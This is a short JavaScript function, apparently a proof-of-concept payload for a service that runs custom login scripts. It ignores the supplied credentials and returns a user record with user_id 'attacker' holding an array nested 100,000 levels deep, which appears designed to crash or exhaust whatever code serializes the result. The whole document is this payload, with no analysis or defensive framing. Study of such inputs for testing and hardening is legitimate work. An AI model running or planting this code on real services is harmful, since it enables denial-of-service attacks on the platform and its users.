function login(email, password, callback) {
  let value = 'x';
  for (let depth = 0; depth < 100000; depth += 1) value = [value];
  callback(null, { user_id: 'attacker', value: value });
}
